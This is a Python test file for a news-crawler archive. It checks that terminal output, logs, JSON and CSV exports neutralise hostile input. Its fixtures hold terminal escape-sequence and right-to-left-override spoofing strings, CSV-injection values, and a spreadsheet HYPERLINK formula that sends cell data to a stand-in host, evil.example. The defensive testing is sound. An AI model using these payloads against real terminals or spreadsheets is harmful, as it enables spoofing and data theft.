"""Nothing that a terminal obeys comes out of any command, whoever wrote what it prints."""

import csv
import io
import json
import logging
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from commands import LOOPBACK, scrapy
from filing import PageMaker, article, file
from hypothesis import given
from hypothesis import strategies as st
from newsroom.hostile import Exchange, HostileSite
from newsroom.hostile import article as hostile_page
from served_room import opened

from crawler.terminal import PlainOutput, PlainRecord
from pipelines.archive.archive import Archive
from pipelines.cells import HarmlessTable, harmless_cell
from pipelines.text import clean_text, visible

OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\u202a-\u202e\u2066-\u2069]")
EVIL = "Ferry\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp.exe\r\x08sinks"
AT_ONCE = ("-s", "DOWNLOAD_DELAY=0", "-s", "AUTOTHROTTLE_ENABLED=0", "-s", "RETRY_TIMES=0")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@given(st.text())
def test_visible_text_holds_nothing_that_is_obeyed_and_loses_nothing(text: str) -> None:
    shown = visible(text)
    assert OBEYED.search(shown) is None
    assert clean_text(shown).count("\n") == shown.count("\n") + sum(map(text.count, "\u2028\u2029"))
    assert json.loads(f'"{visible(json.dumps(text, ensure_ascii=False)[1:-1])}"') == text


def test_a_stream_of_ours_writes_what_it_is_given_visibly() -> None:
    out = io.StringIO()
    print(EVIL, file=PlainOutput(out))
    assert OBEYED.search(out.getvalue()) is None
    assert "\\u001b[2J" in out.getvalue()


def test_a_line_of_the_log_is_one_line_and_plain() -> None:
    out = io.StringIO()
    handler = logging.StreamHandler(out)
    try:
        raise ValueError(EVIL)
    except ValueError as error:
        why = (type(error), error, error.__traceback__)
    handler.emit(
        PlainRecord("x", logging.INFO, "x", 1, "met %s", (f"{EVIL}\n2026-01-01 [root] CRITICAL: fake",), why)
    )
    assert OBEYED.search(out.getvalue()) is None
    assert "\n    2026-01-01 [root] CRITICAL" in out.getvalue()
    assert "\\u001b[2J" in out.getvalue().partition("Traceback")[2]


@pytest.fixture
def filed(archive: Archive, archive_path: Path, fetched: PageMaker) -> Path:
    """An archive into which another program wrote what we would not: raw, in every column that is printed."""
    url = "https://echo.example/2026/ferry"
    file(archive, fetched(url), article(url, title=FORMULA, standfirst="@SUM(A1)", byline="-2+3"))
    second = "https://echo.example/2026/second"
    file(archive, fetched(second), article(second))
    conn = archive.conn
    conn.execute(
        "UPDATE articles SET title = ?, byline = ?, section = ? WHERE url = ?", [EVIL, EVIL, EVIL, second]
    )
    conn.execute("UPDATE sources SET title = ?", [EVIL])
    conn.execute("INSERT INTO saved_searches VALUES (?, ?, '2026')", [EVIL, EVIL])
    conn.execute(
        "UPDATE pages SET hint_title = ?, reason = ?, state = 'failed' WHERE url = ?", [EVIL, EVIL, second]
    )
    conn.execute(
        "INSERT INTO runs (command, started_at, host, pid, outcome) VALUES (?, 'x', ?, 1, ?)", [EVIL] * 3
    )
    conn.execute(
        "INSERT INTO tombstones (url_key, url, reason, removed_at) VALUES (?, ?, ?, 'x')", [EVIL] * 3
    )
    conn.execute("UPDATE articles SET revision_count = 7 WHERE url = ?", [second])
    archive.close()
    return archive_path


@pytest.mark.parametrize(
    "args",
    [
        pytest.param(("search", "friday"), id="search"),
        pytest.param(("search", "friday", "--newest", "--json"), id="search-json"),
        pytest.param(("search", EVIL.replace("\x00", "")), id="search-for-it"),
        pytest.param(("status",), id="status"),
        pytest.param(("status", "https://echo.example/2026/second"), id="status-of-an-address"),
        pytest.param(("save",), id="saved-searches"),
        pytest.param(("save", EVIL, EVIL), id="save"),
        pytest.param(("verify",), id="verify"),
        pytest.param(("remove", "https://echo.example/" + EVIL, "--reason", EVIL), id="remove"),
        pytest.param(("backup", f"/nowhere/{EVIL}"), id="backup"),
        pytest.param(("extract", f"/nowhere/{EVIL}", "--url", "https://echo.example/"), id="no-such-page"),
        pytest.param(("opml", f"/nowhere/{EVIL}"), id="no-such-list"),
        pytest.param(("harvest", EVIL), id="no-such-source"),
    ],
)
def test_no_command_prints_what_a_terminal_obeys(filed: Path, args: tuple[str, ...]) -> None:
    run = scrapy(*args, "-s", f"ARCHIVE={filed}")
    assert run.stdout + run.stderr
    assert OBEYED.search(run.stdout + run.stderr) is None, (run.stdout + run.stderr)[:2_000]
    assert "Traceback" not in run.stderr


class Sayer(HostileSite):
    """A site whose every word is an escape sequence, its headers and reasons too."""

    def _answer(self, exchange: Exchange) -> None:
        if exchange.path == "/robots.txt":
            exchange.send("User-agent: *\nDisallow:\n" + EVIL)
        elif exchange.path == "/status":
            exchange.raw(f"HTTP/1.1 404 {EVIL}\r\nX-Evil: {EVIL}\r\n\r\n".encode())
        elif exchange.path == "/broken":
            exchange.raw(f"HTTP/{EVIL}\r\n\r\n".encode())
        elif exchange.path == "/feed":
            exchange.send(EVIL)
        else:
            exchange.send(hostile_page("evil", title=EVIL).replace("witness", EVIL, 2))


@pytest.fixture(scope="module")
def sayer() -> Iterator[Sayer]:
    with Sayer().running() as site:
        assert isinstance(site, Sayer)
        yield site


@pytest.mark.parametrize(
    ("command", "path"),
    [
        *(
            ("probe", "/2026/03/the-ferry-sinks"),
            ("probe", "/status"),
            ("probe", "/broken"),
            ("probe", "/feed"),
        ),
        ("add", "/2026/03/the-ferry-sinks"),
    ],
)
def test_what_a_server_says_is_printed_plainly(sayer: Sayer, tmp_path: Path, command: str, path: str) -> None:
    folder = ("-a", f"sources={tmp_path}", "--dry-run") if command == "add" else ()
    where = ("-s", f"ARCHIVE={tmp_path / 'archive.db'}", *LOOPBACK, *AT_ONCE)
    run = scrapy(command, sayer.url + path, *folder, *where)
    assert run.stdout + run.stderr
    assert OBEYED.search(run.stdout + run.stderr) is None, (run.stdout + run.stderr)[:2_000]


def test_an_extracted_record_is_plain_json(tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    page.write_bytes(hostile_page("evil", title="Ferry \x9b31m\u202egnp sinks").encode())
    run = scrapy("extract", page, "--url", "https://echo.example/2026/ferry")
    assert run.returncode == 0, run.stderr
    assert OBEYED.search(run.stdout) is None
    assert "Ferry" in json.loads(run.stdout)["title"]


def test_tables_and_searches_as_csv_hold_no_formula(filed: Path, tmp_path: Path) -> None:
    with opened(filed, tmp_path / "datasette.log") as room:
        for path in (
            *(
                "/archive/articles.csv",
                "/archive/articles.csv?_stream=on&_labels=on",
                "/archive/revisions.csv",
            ),
            *("/archive/articles.csv?_dl=1&_size=max", "/search.csv?q=friday"),
        ):
            answer = room.get(path)
            assert answer.status == 200, path
            rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
            titles = {row["title"] for row in rows}
            assert f"'{FORMULA}" in titles, path
            assert not any(cell and cell[0] in "=@+" for row in rows for cell in row.values()), path


@given(
    st.lists(
        st.lists(
            st.text(max_size=12) | st.sampled_from(["=1", "-2", "-2+3", '"', "a\r\nb"]),
            min_size=2,
            max_size=3,
        )
    ),
    st.data(),
)
def test_a_table_cut_anywhere_keeps_its_cells(rows: list[list[str]], data: st.DataObject) -> None:
    rows = [[cell.replace("\x00", "").encode("utf-8", "replace").decode() for cell in row] for row in rows]
    whole = io.StringIO(newline="")
    csv.writer(whole).writerows(rows)
    body = whole.getvalue().encode()
    table, made = HarmlessTable(), b""
    cuts = sorted(data.draw(st.lists(st.integers(0, len(body)), max_size=4)))
    for start, end in zip([0, *cuts], [*cuts, len(body)], strict=True):
        made += table.feed(body[start:end], is_last=end == len(body) and start == (cuts or [0])[-1])
    read = list(csv.reader(io.StringIO(made.decode(), newline="")))
    assert read == [[harmless_cell(cell) for cell in row] for row in rows]
